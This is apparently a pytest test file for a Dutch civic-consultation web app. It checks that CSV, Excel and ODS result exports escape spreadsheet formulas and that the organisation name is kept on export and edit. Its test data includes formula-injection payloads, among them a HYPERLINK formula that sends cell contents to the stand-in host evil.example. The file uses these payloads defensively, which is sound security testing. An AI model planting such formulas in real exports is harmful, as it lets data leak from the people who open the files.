"""Downloads are safe to open and complete: CSV without live formulas, TOML with the
organisation's name (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import html
import io
import zipfile

from openpyxl import load_workbook

from core.services.project_file import import_project, parse_project_file
from inspraak.bootstrap import Container
from tests.factories import project_toml
from tests.web.conftest import csrf_of

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)"]


async def test_a_round_csv_never_contains_a_live_formula(signed_in, demo: Container):
    listed = ", ".join('"' + f.replace('"', '\\"') + '"' for f in FORMULAS)
    rounds = f"""
[[rounds]]
key = "stellingen"
kind = "statements"
question = "=vraag"
statements = [{listed}, "Gewoon een stelling."]
"""
    toml = project_toml("FORMULE", rounds).replace("gemeente-test", "gemeente-voorbeeld")
    async with demo.uow() as uow:
        await import_project(uow, parse_project_file(toml))
        await uow.commit()

    base = "/manage/projects/FORMULE/rounds/stellingen/results.csv"
    plain = await signed_in.get(f"{base}?dialect=rfc4180&lang=en")
    dutch = await signed_in.get(base)  # Dutch Excel: semicolons, a BOM, Dutch headers

    assert plain.status_code == 200 and dutch.status_code == 200
    for text, delimiter, column in (
        (plain.text, ",", "text"),
        (dutch.content.decode("utf-8-sig"), ";", "tekst"),
    ):
        rows = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
        assert sorted(r[column] for r in rows) == sorted(
            ["'" + f for f in FORMULAS] + ["Gewoon een stelling."]
        )
        cells = [cell for row in rows for cell in row.values()]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


async def test_the_workbooks_keep_a_residents_formula_as_text(signed_in, demo: Container):
    rounds = """
[[rounds]]
key = "stellingen"
kind = "statements"
question = "Vraag"
statements = ["=HYPERLINK(\\"http://evil.example\\",\\"klik\\")", "Gewoon."]
"""
    toml = project_toml("FORMULE", rounds).replace("gemeente-test", "gemeente-voorbeeld")
    async with demo.uow() as uow:
        await import_project(uow, parse_project_file(toml))
        await uow.commit()

    xlsx = await signed_in.get("/manage/projects/FORMULE/results.xlsx")
    ods = await signed_in.get("/manage/projects/FORMULE/results.ods")

    sheet = load_workbook(io.BytesIO(xlsx.content))["stellingen"]
    texts = [c.value for c in sheet["B"]]
    assert '=HYPERLINK("http://evil.example","klik")' in texts
    assert all(c.data_type == "s" for c in sheet["B"])  # a string cell, never a formula
    with zipfile.ZipFile(io.BytesIO(ods.content)) as book:
        content = html.unescape(book.read("content.xml").decode())
    assert '<text:p>=HYPERLINK("http://evil.example","klik")</text:p>' in content
    assert "table:formula" not in content


async def test_the_project_file_download_and_the_edit_form_keep_the_organisation_name(
    signed_in,
):
    exported = await signed_in.get("/manage/projects/DEMO/export.toml")
    assert 'organisation_name = "Gemeente Voorbeeld"' in exported.text

    page = await signed_in.get("/manage/projects/DEMO/edit")
    response = await signed_in.post(
        "/manage/projects/DEMO/edit",
        data={"csrf": csrf_of(page.text), "title": "Nieuw", "language": "nl",
              "status": "active", "moderation": "post", "quiet_start": "21:00",
              "quiet_end": "09:00", "wijken": ""},
    )  # fmt: skip
    assert response.status_code == 303, response.text
    again = await signed_in.get("/manage/projects/DEMO/export.toml")
    assert 'title = "Nieuw"' in again.text
    assert 'organisation_name = "Gemeente Voorbeeld"' in again.text


def test_moving_a_project_to_another_organisation_does_not_take_the_old_name_along():
    from web.forms import project_data

    current = {"organisation": "gemeente-a", "organisation_name": "Gemeente A", "title": "P"}
    assert project_data({"organisation": "gemeente-a"}, current)["organisation_name"] == (
        "Gemeente A"
    )
    assert "organisation_name" not in project_data({"organisation": "gemeente-b"}, current)
